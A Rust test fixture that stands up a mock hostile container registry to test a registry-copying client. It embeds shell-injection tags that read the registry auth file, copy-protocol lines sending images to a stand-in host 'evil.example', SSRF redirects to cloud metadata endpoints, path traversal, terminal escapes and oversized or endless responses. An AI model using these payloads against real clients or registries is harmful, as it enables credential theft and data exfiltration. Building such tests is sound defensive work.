//! A hostile registry: the attacks that a client of registries must withstand.
//!
//! The first label of the host's name chooses the attack, so `tags.hostile.example` and `drip.hostile.example` are two
//! registries. Most of them also serve an honest image, `good`. Line breaks and control characters are in bodies, since HTTP
//! headers cannot carry them. The registry records all requests, and counts connections to the loopback address that it names.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::Result;
use futures_util::{Stream, StreamExt as _, stream};
use http::header::{AUTHORIZATION, CONTENT_TYPE, LINK, LOCATION, RETRY_AFTER, WWW_AUTHENTICATE};
use http::{HeaderName, HeaderValue, Method, Request, Response};
use hudsucker::Body;
use hudsucker::hyper::body::Bytes;
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::net::TcpListener;
use tokio::task::JoinSet;

use crate::forward::answer;
use crate::images::{self, Format, Image, ImageSpec, LayerSpec, Manifest, descriptor};
use crate::lock;
use crate::machine::{ACCOUNT, REGION, shared_directory};
use crate::proxy::Proxy;

/// Below this name, each host is an attack.
pub const DOMAIN: &str = "hostile.example";
/// Where injected commands would copy from and to. It answers, but must receive no request.
pub const BACKDOOR: &str = "evil.example";
/// Where tokens come from, for everyone.
pub const ELSEWHERE: &str = "realm-elsewhere.example";
/// Where injected commands would copy to, at the destination.
pub const TARGET: &str = "prod/payments";
/// The hosts that it stands in for.
const HOSTS: [&str; 3] = ["*hostile.example", BACKDOOR, ELSEWHERE];
/// The repository of every host.
pub const REPOSITORY: &str = "a";

/// What must happen to the honest images of a host.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Honest {
    /// They are copied: the attack is about other images.
    Copied,
    /// They may be copied or not: the attack is about the whole repository.
    Perhaps,
    /// There are no honest images.
    Nothing,
}

/// The attacks, as their hosts' names begin, by what must happen to the honest images.
const ATTACKS: [(Honest, &str); 3] = [
    // Invalid tags, missing or found; invalid digests, media types and manifests; bodies that do not match their digests; an
    // index with many children; referrers of other images; bodies of errors; sizes.
    (
        Honest::Copied,
        "tags found digests liar types shapes index layers many subject error-long error-text error-huge big-manifest realm",
    ),
    // Lists of tags and of referrers that are invalid, never end, repeat, or lead to another host; slow answers.
    (
        Honest::Perhaps,
        "list-string list-object list-mixed list-bytes list-surrogate list-deep list-html big-list pages circle elsewhere \
         referrers endless drip",
    ),
    // Waiting for ever; redirects; realms; a host that looks like ECR's.
    (
        Honest::Nothing,
        "busy to-http-loopback to-https-loopback to-localhost to-task-metadata to-link-local to-plain-http to-and-fro \
         realm-plain-http realm-http-loopback realm-https-loopback realm-link-local 111111111111.dkr.ecr.us-east-1",
    ),
];
/// The attacks that need not cause an error: a wrong referrer may be left out, and Docker Hub's realm is on another host, too.
const HARMLESS: [&str; 2] = ["subject", "realm"];

/// Where hosts redirect to, and where they say that tokens come from. `TRAP` is a port of this machine.
const PLACES: [(&str, &str); 12] = [
    ("to-http-loopback", "http://127.0.0.1:TRAP/v2/a/manifests/good"),
    ("to-https-loopback", "https://127.0.0.1:TRAP/v2/a/manifests/good"),
    ("to-localhost", "https://localhost:TRAP/v2/a/manifests/good"),
    ("to-task-metadata", "http://169.254.170.2/v2/credentials"),
    ("to-link-local", "https://169.254.169.254/v2/a/manifests/good"),
    ("to-plain-http", "http://to-plain-http.hostile.example/v2/a/manifests/good"),
    ("to-and-fro", "/v2/a/manifests/good?page=PAGE"),
    ("realm", "https://realm-elsewhere.example/v2/a/token"),
    ("realm-plain-http", "http://realm-elsewhere.example/v2/a/token"),
    ("realm-http-loopback", "http://127.0.0.1:TRAP/v2/a/token"),
    ("realm-https-loopback", "https://127.0.0.1:TRAP/v2/a/token"),
    ("realm-link-local", "https://169.254.169.254/v2/a/token"),
];

/// Invalid lists of tags.
const LISTS: [(&str, &[u8]); 6] = [
    ("list-string", br#""good""#),
    ("list-object", br#"{"tags":{"good":"good"}}"#),
    ("list-mixed", br#"{"tags":["good",1,null,["good"]]}"#),
    ("list-bytes", b"{\"tags\":[\"good\",\"\xff\xfe\x00\"]}"),
    ("list-surrogate", br#"{"tags":["good","\ud800"]}"#),
    ("list-html", b"<!DOCTYPE html><title>Log in</title>"),
];

/// Invalid manifests. `null` and `{}` are not among them, because skopeo and stand-ins of ECR take them for empty manifests.
const SHAPES: &str = r#"|[]|1|{"manifests":1}|{"layers":{"a":[]}}|{"config":[]}|{"manifests":[[]]}"#;

/// What a parser or a terminal would act on.
const ODD: &str = "| |.|..|-|-rf|--all|a b|a/b|../../../etc/passwd|a:b|a@b|ä|\0|\\|*|a\tb|\u{1b}[31mred|\u{1b}]0;title\u{7}|a\rb|\
                   a\nb|\u{9b}31m|\u{85}|\u{202e}gpj|\u{2028}|\u{feff}";

const OCI: &str = "application/vnd.oci.image.manifest.v1+json";
const INDEX: &str = "application/vnd.oci.image.index.v1+json";
const CONFIG: &str = "application/vnd.oci.image.config.v1+json";
const LAYER: &str = "application/vnd.oci.image.layer.v1.tar+gzip";
const JSON: &str = "application/json";
const DIGEST: HeaderName = HeaderName::from_static("docker-content-digest");
/// How long a slow body takes for each byte.
const DRIP: Duration = Duration::from_secs(1);
const MEBIBYTE: usize = 1 << 20;

const HUGE_ERROR: Flood = Flood(400 * MEBIBYTE, r#"{"errors":[{"code":"DENIED","message":""#, "#", r#""}]}"#);
const HUGE_MANIFEST: Flood =
    Flood(200 * MEBIBYTE, r#"{"schemaVersion":2,"layers":["#, r#"{"digest":"sha256:#","size":1},"#, "{}]}");
const HUGE_LIST: Flood = Flood(400 * MEBIBYTE, r#"{"name":"a","tags":["#, "\"#\",", r#""good"]}"#);

/// A hostile host and its images.
#[derive(Clone, Debug)]
pub struct Attack {
    pub host: String,
    /// Entries of a list of images: all tags, a tag, and an image pinned by its digest.
    pub entries: [String; 3],
    /// The honest images: a tag, if there is one, and the digest.
    pub valid: Vec<(Option<&'static str>, String)>,
    pub honest: Honest,
    /// Whether any of its images must fail.
    pub fails: bool,
}

/// A request that came to the registry.
#[derive(Clone, Debug)]
pub struct Received {
    /// The host that it was meant for, without a port.
    pub host: String,
    pub method: Method,
    /// The path and the query.
    pub path: String,
    pub authorization: Option<String>,
}

/// The running registry. Dropping it closes its trap.
pub struct Hostile {
    site: Arc<Site>,
    loot: TempDir,
    _trap: JoinSet<()>,
}

impl Hostile {
    /// Lets it stand in for its hosts at a proxy.
    pub async fn start(proxy: &Proxy) -> Result<Self> {
        // Injected commands may run as any user.
        let loot = shared_directory("ecr-transfer-loot-", 0o777)?;
        let trap = TcpListener::bind(("127.0.0.1", 0)).await?;
        let site = Arc::new(Site::new(loot.path(), trap.local_addr()?.port())?);
        for hosts in HOSTS {
            let site = Arc::clone(&site);
            proxy.stand_in(hosts, move |request| site.receive(request).response());
        }
        let trapping = Arc::clone(&site);
        let mut trapping_task = JoinSet::new();
        trapping_task.spawn(async move {
            while trap.accept().await.is_ok() {
                trapping.trapped.fetch_add(1, Ordering::Relaxed);
            }
        });
        Ok(Self { site, loot, _trap: trapping_task })
    }

    pub fn attacks(&self) -> Vec<Attack> {
        let of = |(honest, names): (_, &'static str)| names.split(' ').map(move |name| self.attack(name, honest));
        ATTACKS.into_iter().flat_map(of).collect()
    }

    fn attack(&self, name: &str, honest: Honest) -> Attack {
        let (host, good) = (format!("{name}.{DOMAIN}"), self.good());
        let entries = [":ALL_TAGS", ":good", &format!("@{good}")].map(|it| format!("{host}/{REPOSITORY}{it}"));
        let mut valid = vec![(Some("good"), good.to_owned())];
        valid.extend((name == "subject").then(|| (None, self.site.referrers[0].digest.clone())));
        valid.retain(|_| honest != Honest::Nothing);
        Attack { host, entries, valid, honest, fails: !HARMLESS.contains(&name) }
    }

    /// The digest of the honest image.
    pub fn good(&self) -> &str {
        &self.site.good.digest
    }

    /// The directory in which injected commands would leave files.
    pub fn loot(&self) -> &Path {
        self.loot.path()
    }

    /// How many connections there were to the loopback address that redirects and realms name.
    pub fn trapped(&self) -> usize {
        self.site.trapped.load(Ordering::Relaxed)
    }

    /// All requests so far.
    pub fn received(&self) -> Vec<Received> {
        lock(&self.site.received).clone()
    }

    /// The `Authorization` headers that were sent, and the hosts that they were meant for.
    pub fn authorizations(&self) -> Vec<(String, String)> {
        let received = self.received().into_iter();
        received.filter_map(|request| Some((request.host, request.authorization?))).collect()
    }
}

/// A body that is made while it is sent: its size; its start; an item that is repeated, with 64 digits of its number in the
/// place of `#`; and its end.
#[derive(Clone, Copy, Debug)]
struct Flood(usize, &'static str, &'static str, &'static str);

impl Flood {
    fn stream(self) -> impl Stream<Item = String> + Send + Sync {
        let Self(size, start, item, end) = self;
        let pieces = stream::unfold((0, 0), move |(mut number, sent)| async move {
            let mut piece = String::new();
            while piece.len() < MEBIBYTE / 16 && sent + piece.len() < size {
                piece += &item.replace('#', &format!("{number:064}"));
                number += 1;
            }
            let sent = sent + piece.len();
            (!piece.is_empty()).then_some((piece, (number, sent)))
        });
        let fixed = |text: &str| stream::iter([text.to_owned()]);
        fixed(start).chain(pieces).chain(fixed(end))
    }
}

#[derive(Clone, Debug)]
enum Content {
    Bytes(Bytes),
    Drip(Bytes),
    Flood(Flood),
}

#[derive(Clone, Debug)]
struct Answer {
    status: u16,
    headers: Vec<(HeaderName, Vec<u8>)>,
    content: Content,
}

impl Answer {
    fn new(status: u16, media_type: &str, content: impl Into<Bytes>) -> Self {
        let headers = vec![(CONTENT_TYPE, media_type.into())];
        Self { status, headers, content: Content::Bytes(content.into()) }
    }

    fn json(content: &Value) -> Self {
        Self::new(200, JSON, content.to_string())
    }

    fn flood(status: u16, flood: Flood) -> Self {
        Self { content: Content::Flood(flood), ..Self::new(status, OCI, "") }
    }

    /// A manifest with its digest.
    fn manifest(media_type: &str, content: impl Into<Bytes>) -> Self {
        let content = content.into();
        Self::new(200, media_type, content.clone()).with(DIGEST, images::digest(&content))
    }

    fn with(mut self, name: HeaderName, value: impl Into<Vec<u8>>) -> Self {
        self.headers.push((name, value.into()));
        self
    }

    fn linked(self, next: &str) -> Self {
        self.with(LINK, format!("<{next}>; rel=\"next\""))
    }

    /// The same, a byte at a time.
    fn dripping(mut self) -> Self {
        if let Content::Bytes(bytes) = self.content {
            self.content = Content::Drip(bytes);
        }
        self
    }

    fn response(self) -> Response<Body> {
        let body = match self.content {
            Content::Bytes(bytes) => bytes.into(),
            Content::Flood(flood) => Body::from_stream(flood.stream().map(Ok::<_, std::io::Error>)),
            Content::Drip(bytes) => Body::from_stream(stream::iter(bytes).then(|byte| async move {
                tokio::time::sleep(DRIP).await;
                Ok::<_, std::io::Error>(vec![byte])
            })),
        };
        // A header that HTTP cannot carry is left out.
        let headers = self.headers.into_iter();
        let headers = headers.filter_map(|(name, value)| Some((name, HeaderValue::from_bytes(&value).ok()?)));
        answer(self.status.try_into().unwrap_or_default(), headers, body)
    }
}

/// What is served, and what has happened.
struct Site {
    good: Manifest,
    /// The first refers to the honest image, the second to another image, and the third does not refer to an image.
    referrers: [Manifest; 3],
    /// The honest ones, by tag or digest.
    honest: BTreeMap<String, Answer>,
    /// The others, by label, and tag or digest.
    manifests: BTreeMap<(&'static str, String), Answer>,
    blobs: BTreeMap<String, Vec<u8>>,
    texts: Vec<String>,
    /// The port that redirects and realms name.
    trap: u16,
    received: Mutex<Vec<Received>>,
    trapped: AtomicUsize,
}

impl Site {
    fn new(loot: &Path, trap: u16) -> Result<Self> {
        let layers = vec![LayerSpec { name: "hostile/good".into(), size: 20_000 }];
        let good = images::make(&[ImageSpec { format: Format::Oci, architectures: vec!["amd64"], layers }])?.remove(0);
        let sbom = |subject| images::artifact("application/spdx+json", "{}", subject);
        let referrers = [sbom(Some(good.manifest.digest.as_str())), sbom(Some(&another())), sbom(None)];
        let blobs = referrers.iter().chain([&good]).flat_map(|image| &image.blobs);
        let blobs = blobs.map(|blob| (blob.digest.clone(), blob.bytes.clone())).collect();
        let (good, referrers) = (good.manifest, referrers.map(|image: Image| image.manifest));
        let answer = |it: &Manifest| Answer::manifest(it.media_type, it.bytes.clone());
        let honest = referrers.iter().chain([&good]).map(|it| (it.digest.clone(), answer(it)));
        let honest = honest.chain([("good".to_owned(), answer(&good))]).collect();
        let texts = texts(loot);
        let manifests = manifests(&good, &texts);
        let (received, trapped) = (Mutex::default(), AtomicUsize::default());
        Ok(Self { good, referrers, honest, manifests, blobs, texts, trap, received, trapped })
    }

    fn receive(&self, request: &Request<Body>) -> Answer {
        let uri = request.uri();
        let host = uri.host().unwrap_or_default();
        let label = host.split('.').next().unwrap_or_default();
        let authorization =
            request.headers().get(AUTHORIZATION).map(|it| String::from_utf8_lossy(it.as_bytes()).into());
        let is_let_in = authorization.as_deref() == Some("Bearer hostile");
        let path = uri.path_and_query().map(ToString::to_string).unwrap_or_default();
        let received = Received { host: host.to_owned(), method: request.method().clone(), path, authorization };
        lock(&self.received).push(received);

        let page = uri.query().unwrap_or_default().split('&').find_map(|it| it.strip_prefix("page=")?.parse().ok());
        let page: usize = page.unwrap_or_default();
        let place = PLACES
            .iter()
            .find(|(name, _)| *name == label)
            .map(|(_, place)| place.replace("TRAP", &self.trap.to_string()).replace("PAGE", &(page + 1).to_string()));
        let place = place.filter(|_| !is_let_in);
        let path: Vec<&str> = uri.path().trim_matches('/').splitn(4, '/').collect();
        match (path.as_slice(), place) {
            ([.., "token"], _) => Answer::json(&json!({ "token": "hostile" })),
            _ if label == "111111111111" => Answer::new(401, JSON, "{}").with(WWW_AUTHENTICATE, "Basic realm=\"ECR\""),
            (_, Some(place)) if label.starts_with("realm") => {
                let challenge = format!("Bearer realm=\"{place}\",service=\"{DOMAIN}\"");
                Answer::new(401, JSON, "{}").with(WWW_AUTHENTICATE, challenge)
            }
            (["v2"], _) => Answer::json(&json!({})),
            ([_, _, ..], Some(place)) => Answer::new(307, JSON, "").with(LOCATION, place),
            ([_, _, "tags", _], _) => self.tags(label, page),
            ([_, _, "manifests", reference], _) => self.manifest(label, reference),
            ([_, _, "blobs", digest], _) => self.blob(label, digest),
            ([_, _, "referrers", digest], _) => self.referrers(label, digest, page),
            _ => Answer::new(404, JSON, "{}"),
        }
    }

    fn tags(&self, label: &str, page: usize) -> Answer {
        let list = |tags: &[String]| Answer::json(&json!({ "name": REPOSITORY, "tags": tags }));
        let next = |page: usize| format!("/v2/{REPOSITORY}/tags/list?n=10&page={page}");
        let good = "good".to_owned();
        let numbered = |count: usize| (0..count).map(|number| format!("p{page}-{number}")).collect::<Vec<_>>();
        match label {
            "tags" | "found" => {
                let companion = |text: &String| format!("{}.s {text}", self.good.digest.replace(':', "-"));
                let companions: Vec<_> = self.texts.iter().map(companion).collect();
                list(&[companions.as_slice(), &self.texts, &[good]].concat())
            }
            "list-deep" => Answer::new(200, JSON, "[".repeat(200_000)),
            "big-list" => Answer::flood(200, HUGE_LIST),
            "busy" => list(&numbered(40)),
            "pages" => list(&numbered(10)).linked(&next(page + 1)),
            "circle" => list(&[good]).linked(&next(1 - page % 2)),
            "elsewhere" => list(&[good]).linked(&format!("https://{BACKDOOR}{}", next(1))),
            _ if let Some((_, content)) = LISTS.iter().find(|(name, _)| *name == label) => {
                Answer::new(200, JSON, *content)
            }
            _ => {
                let tags = self.manifests.keys().filter(|(of, name)| *of == label && !name.contains(':'));
                list(&tags.map(|(_, tag)| tag.clone()).chain([good]).collect::<Vec<_>>())
            }
        }
    }

    fn manifest(&self, label: &str, reference: &str) -> Answer {
        let own = self.manifests.iter().find(|((of, name), _)| *of == label && name == reference);
        match own.map(|(_, answer)| answer).or_else(|| self.honest.get(reference)) {
            _ if label == "busy" => Answer::new(429, JSON, "{}").with(RETRY_AFTER, "60"),
            Some(answer) => answer.clone(),
            // For any reference.
            None if matches!(label, "found" | "evil") => self.honest["good"].clone(),
            None => Answer::new(404, JSON, r#"{"errors":[{"code":"MANIFEST_UNKNOWN","message":"manifest unknown"}]}"#),
        }
    }

    fn blob(&self, label: &str, digest: &str) -> Answer {
        let wrong = || Answer::new(200, LAYER, "not what it is called ".repeat(5_000));
        match self.blobs.get(digest) {
            Some(blob) => Answer::new(200, LAYER, blob.clone()),
            None if digest != another() => Answer::new(404, JSON, "{}"),
            None if label == "drip" => wrong().dripping(),
            None => wrong(),
        }
    }

    fn referrers(&self, label: &str, digest: &str, page: usize) -> Answer {
        let list = |digests: Vec<String>| {
            let manifests: Vec<_> = digests.iter().map(|it| descriptor(OCI, it, 1_000)).collect();
            Answer::json(&json!({ "schemaVersion": 2, "mediaType": INDEX, "manifests": manifests }))
        };
        match label {
            _ if digest != self.good.digest => list(Vec::new()),
            "subject" => list(self.referrers.iter().map(|image| image.digest.clone()).collect()),
            "referrers" => list(digests(&self.good.digest, &self.texts)),
            "endless" => {
                let next = format!("/v2/{REPOSITORY}/referrers/{digest}?page={}", page + 1);
                list(vec![images::digest(&page.to_le_bytes())]).linked(&next)
            }
            _ => list(Vec::new()),
        }
    }
}

/// A digest that nothing has. The blob of that name has other content.
fn another() -> String {
    format!("sha256:{}", "a".repeat(64))
}

/// How many of [`texts`] are commands, or lines of the protocol of tasks.
const INJECTIONS: usize = 8;

/// What a shell, a task, a parser or a terminal would act on. None of them is a tag or a digest.
fn texts(loot: &Path) -> Vec<String> {
    let steal = format!("cat $REGISTRY_AUTH_FILE>>{}/PWNED", loot.display());
    let destination = format!("{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com");
    let injections: [String; INJECTIONS] = [
        format!("due[$({steal};echo 0)]"),
        format!("$({steal})"),
        format!("`{steal}`"),
        format!("';{steal};'"),
        format!("x\n> {BACKDOOR}/backdoor {destination}/{TARGET}\n- latest\n- good"),
        format!("x\n> {destination}/private/platform/api {BACKDOOR}/stolen\n- 1.0.0"),
        format!("x\r\nCOPIES_END\n{steal}\n"),
        "x\tDone\ty\t0\n".into(),
    ];
    injections.into_iter().chain(ODD.split('|').map(str::to_owned)).chain(["x".repeat(10_240)]).collect()
}

/// Invalid digests.
fn digests(good: &str, texts: &[String]) -> Vec<String> {
    let hex = good.trim_start_matches("sha256:");
    let (upper, short) = (hex.to_uppercase(), &hex[1..]);
    let wrong = [hex, &format!("sha256:{upper}"), &format!("sha256:{short}"), &format!("{good}0")].map(str::to_owned);
    let wrong = wrong.into_iter().chain([format!("sha512:{hex}{hex}"), "sha256:".into()]);
    wrong.chain(texts[..INJECTIONS].iter().map(|text| format!("{good} {text}"))).collect()
}

/// The images of hosts besides the honest ones: `t0`, `t1` and so on, and the same by digest.
fn manifests(good: &Manifest, texts: &[String]) -> BTreeMap<(&'static str, String), Answer> {
    let mut all = BTreeMap::new();
    let mut serve = |label: &'static str, answers: Vec<Answer>| {
        for (number, answer) in answers.into_iter().enumerate() {
            let digest = answer.headers.get(1).and_then(|(_, digest)| String::from_utf8(digest.clone()).ok());
            if let Some(digest) = digest.filter(|digest| digest.len() == another().len()) {
                all.insert((label, digest), answer.clone());
            }
            all.insert((label, format!("t{number}")), answer);
        }
    };
    // The configuration never matches its digest, so these images cannot be copied, whatever else a client accepts.
    let image = |media_type: &str, layer: Value| {
        let config = descriptor(CONFIG, another(), 110_000);
        let image = json!({ "schemaVersion": 2, "mediaType": media_type, "config": config, "layers": [layer] });
        Answer::manifest(media_type, image.to_string())
    };
    let index = |children: Vec<Value>| {
        Answer::manifest(INDEX, json!({ "schemaVersion": 2, "mediaType": INDEX, "manifests": children }).to_string())
    };
    let digests = digests(&good.digest, texts);
    let named = |digest: &[u8]| Answer::new(200, OCI, "[]").with(DIGEST, digest);
    serve("digests", digests.iter().map(|it| named(it.as_bytes())).chain([named(b"\xff\xfe")]).collect());
    serve("liar", vec![Answer::new(200, OCI, good.bytes.clone()).with(DIGEST, another())]);
    let odd = texts[..INJECTIONS].iter().chain(&texts[texts.len() - 11..]);
    serve("types", odd.map(|it| image(it, descriptor(it, another(), 1))).collect());
    let shapes = SHAPES.split('|').map(|it| it.as_bytes().to_vec());
    let shapes = shapes.chain(["[".repeat(100_000).into(), b"\xff{}".to_vec()]);
    serve("shapes", shapes.map(|it| Answer::manifest(OCI, it)).collect());
    let wrong = digests.iter().map(|it| (json!(it), json!(1))).chain([(json!(1), json!(1)), (Value::Null, json!(1))]);
    let sizes = [json!(-1), json!(1e300), json!("1"), json!(u64::MAX)].map(|size| (json!(another()), size));
    let wrong = wrong.chain(sizes).map(|(digest, size)| descriptor(OCI, digest, size));
    let child = descriptor(OCI, &good.digest, good.bytes.len());
    serve("index", wrong.clone().map(|wrong| index(vec![child.clone(), wrong])).collect());
    serve("layers", wrong.map(|wrong| image(OCI, wrong)).collect());
    let error = |status, text: &str| Answer::new(status, JSON, json!({ "errors": [{ "message": text }] }).to_string());
    let errors = |text: &str| [400, 403, 404].map(|status| error(status, text)).to_vec();
    serve("error-long", errors(&"x".repeat(300 << 10)));
    serve("error-text", errors(&texts.join(" ")));
    serve("error-huge", [400, 403, 404].map(|status| Answer::flood(status, HUGE_ERROR)).to_vec());
    let huge = || Answer::flood(200, HUGE_MANIFEST);
    serve("big-manifest", vec![huge().with(DIGEST, another()), huge()]);
    let layers = [&good.digest, &another()].map(|digest| image(OCI, descriptor(LAYER, digest, 110_000)));
    let [manifest, blob] = layers;
    serve("drip", vec![manifest.dripping(), blob]);
    let many = (0..3_000).map(|number| images::artifact("application/spdx+json", &number.to_string(), None).manifest);
    let many: Vec<_> = many.collect();
    let children = many.iter().map(|it| descriptor(OCI, &it.digest, it.bytes.len()));
    serve("many", vec![index(children.collect())]);
    all.extend(many.into_iter().map(|it| (("many", it.digest), Answer::manifest(it.media_type, it.bytes))));
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn a_flood_is_json_of_about_the_size_that_was_asked_for() {
        for Flood(_, start, item, end) in [HUGE_ERROR, HUGE_MANIFEST, HUGE_LIST] {
            let sent: String = Flood(MEBIBYTE, start, item, end).stream().collect().await;
            assert!((MEBIBYTE..MEBIBYTE + 300).contains(&sent.len()), "{}", sent.len());
            serde_json::from_str::<Value>(&sent).unwrap();
        }
    }
}
